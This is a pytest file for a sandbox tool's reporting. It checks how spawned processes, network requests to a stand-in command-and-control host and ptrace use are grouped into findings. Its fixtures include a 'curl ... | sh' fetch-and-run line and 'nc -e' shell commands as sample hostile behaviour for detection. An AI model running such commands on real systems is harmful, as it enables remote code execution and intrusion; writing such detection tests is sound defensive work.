"""One act, one line: what belongs to an act that is told already, and what does not."""

import pytest
from reports import a_phase, report_of

from jail.report.groups import MAX_GROUP_TITLES
from jail.report.verdict import Report
from jail.watch.events import (
    Actor,
    Connection,
    Event,
    Exec,
    NameAsked,
    Net,
    Phase,
    PhaseName,
    ProcessEnded,
)
from jail.watch.noticed import LookedInto, Notice, Noticed
from jail.watch.world_events import Conversation, Payload, Reply, Request, Speaker

SETUP, SHELL = 40, 41
PLACE = "/s.py:7"
PIPE = "curl -s http://x.example/y | sh"


def command(pid: int, *argv: str, place: str | None = None, hidden: bool = False) -> Exec:
    """A program that the process with this number becomes."""
    return Exec(f"/usr/bin/{argv[0]}", argv, None, Actor(pid, "", place, hidden=hidden))


def tree(**parents: int) -> list[Event]:
    """The ends of processes: p41=40 is one with the number 41 that 40 has started."""
    return [
        ProcessEnded(int(name[1:]), parent, ("x",), 0, None, False, True)
        for name, parent in parents.items()
    ]


def lines(report: Report) -> list[tuple[str, str, list[str], int]]:
    """Each line for people: severity, place, the commands or hosts of it, how many there were."""
    return [
        (
            group.finding.severity.value,
            group.finding.place or "",
            [title.removeprefix("runs ") for title in group.titles],
            group.count,
        )
        for group in report.groups
    ]


SH = command(SHELL, "sh", "-c", PIPE, place=PLACE)
CURL = command(42, "curl", "-s", "http://x.example/y")
LAST = command(43, "sh")


def test_what_a_command_starts_is_one_act_with_it() -> None:
    report = report_of(SH, CURL, LAST, *tree(p41=SETUP, p42=SHELL, p43=SHELL))
    assert lines(report) == [
        ("high", PLACE, [f"sh -c {PIPE}", "curl -s http://x.example/y", "sh"], 3)
    ]
    # The report for programs has each by itself, with the line that it comes from.
    assert [item["at"] for item in report.lists["findings"]] == [PLACE] * 3


def test_the_tree_decides_and_no_words() -> None:
    # Of another parent, though the shell was given these very words; of an unknown one.
    report = report_of(SH, CURL, LAST, *tree(p41=SETUP, p42=SETUP))
    assert [place for _, place, _, _ in lines(report)] == [PLACE, "", ""]
    # What the process itself was before counts, too, and a process in between that nothing says.
    again = command(SHELL, "id")
    deep = command(45, "whoami")
    report = report_of(SH, again, deep, *tree(p41=SETUP, p44=SHELL, p45=44))
    assert [(place, count) for _, place, _, count in lines(report)] == [(PLACE, 3)]


def test_what_is_graver_than_the_command_that_started_it_has_a_line_of_its_own() -> None:
    script = command(SHELL, "sh", "x.sh", place=PLACE)
    report = report_of(
        script, command(42, "nc", "-e"), command(43, "id"), *tree(p41=SETUP, p42=SHELL, p43=42)
    )
    found = lines(report)
    assert found == [("high", PLACE, ["nc -e", "id"], 2), ("medium", PLACE, ["sh x.sh"], 1)]


def test_that_python_was_gone_around_is_no_part_of_a_command() -> None:
    unsaid = command(42, "true", hidden=True)
    report = report_of(SH, unsaid, *tree(p41=SETUP, p42=SHELL))
    rules = [group.finding.rule.value for group in report.groups]
    assert sorted(rules) == ["process.spawn", "witness.hidden"]


def test_a_number_that_came_again_says_nothing_of_descent() -> None:
    report = report_of(SH, LAST, *tree(p41=SETUP, p43=SHELL), *tree(p43=SETUP))
    assert len(report.groups) == 2
    # Each jail has numbers of its own.
    other = a_phase(PhaseName.IMPORT, "x")
    phases = [a_phase(), other]
    ended = [(other, event) for event in tree(p43=SHELL)]
    report = report_of(SH, (other, LAST), *tree(p41=SETUP), *ended, phases=phases)
    assert len(report.groups) == 2


def test_no_flood_of_what_is_harmless_hides_what_is_graver_in_an_act() -> None:
    many = [command(100 + number, "uname", f"-{number}") for number in range(MAX_GROUP_TITLES)]
    ended = tree(**{f"p{100 + number}": SHELL for number in range(MAX_GROUP_TITLES)})
    worst = command(SHELL, "nc", "-e")
    (group,) = report_of(SH, *many, worst, *tree(p41=SETUP), *ended).groups
    assert group.titles[:2] == [f"runs sh -c {PIPE}", "runs nc -e"]
    assert (len(group.titles), group.count) == (MAX_GROUP_TITLES, MAX_GROUP_TITLES + 2)


def test_processes_without_an_end_to_their_descent_take_no_time() -> None:
    report = report_of(SH, *tree(p41=42, p42=41))
    assert len(report.groups) == 1


TARGET = "24.1.2.3:443"
WHO = Actor(7, "python x.py", "/x.py:3")
ELSEWHERE = Actor(7, "python x.py", "/x.py:9")


def conversation() -> Event:
    """What tells whose address TARGET is."""
    host, payload = "c2.example.com", Payload(12, "ab", "x")
    start = (Net.TCP, TARGET, 0, host, Reply.DECOY, Speaker.PACKAGE, None, payload)
    return Conversation(*start, actor=WHO)


def request(target: str = TARGET, host: str = "c2.example.com", opaque: bool = False) -> Event:
    url, body = f"https://{host}/a", Payload(9, "ab", "x")
    about = (target, 0, "POST", url, (), body, 200, (), False, opaque, ELSEWHERE)
    return Request(*about)


@pytest.mark.parametrize("is_first", [False, True])
def test_what_is_said_to_one_host_is_one_act_though_some_of_it_is_graver(is_first: bool) -> None:
    call = a_phase(PhaseName.CALL, "x")
    plain, secret = request(), request(opaque=True)
    events = [secret, plain] if is_first else [plain, secret]
    report = report_of(*((call, event) for event in events), phases=[call])
    (found,) = lines(report)
    assert (found[0], found[3]) == ("medium", 2)
    assert found[2][0].endswith("that can't be read")
    assert len(report.lists["findings"]) == 2


def reached(severe: Event, lesser: Event, phase: Phase, other: Phase | None = None) -> int:
    phases = [phase, other] if other else [phase]
    known = (phase, conversation())
    pairs = [known, (phase, severe), (other or phase, lesser)]
    return len(report_of(*pairs, phases=phases).groups)


def test_another_host_or_another_jail_is_another_act() -> None:
    call, later = a_phase(PhaseName.CALL, "x"), a_phase(PhaseName.CALL, "y")
    grave = request(opaque=True)
    assert reached(grave, request(), call) == 1
    # By another port of it, and by its name alone.
    assert reached(grave, Connection(Net.TCP, "24.1.2.3:80", False, None, ELSEWHERE), call) == 1
    assert reached(grave, NameAsked("c2.example.com", ELSEWHERE), call) == 1
    assert reached(grave, request("24.9.9.9:443", "other.example.com"), call) == 2
    # It only says that it speaks to the same.
    assert reached(grave, request("24.9.9.9:443"), call) == 2
    assert reached(grave, request(), call, later) == 2
    # This machine is no host: each port of it is another server, and who listens speaks to nobody.
    for near in ("127.0.0.1:80", "unix:/tmp/x"):
        assert reached(grave, Connection(Net.TCP, near, False, None, ELSEWHERE), call) == 2
    assert reached(grave, Connection(Net.TCP, TARGET, True, None, ELSEWHERE), call) == 2


def test_a_look_into_a_process_is_one_act_with_the_line_that_asks_the_library_for_it() -> None:
    asked = Noticed(Notice.TRACES, "ptrace", place="/x.py:3")
    report = report_of(asked, LookedInto("ptrace(PTRACE_TRACEME)", "python x.py"))
    (found,) = lines(report)
    assert (found[0], found[1], found[3]) == ("medium", "/x.py:3", 2)
    # Without it, it is told by itself.
    report = report_of(asked, LookedInto("process_vm_readv", "./tool"))
    assert len(report.groups) == 2
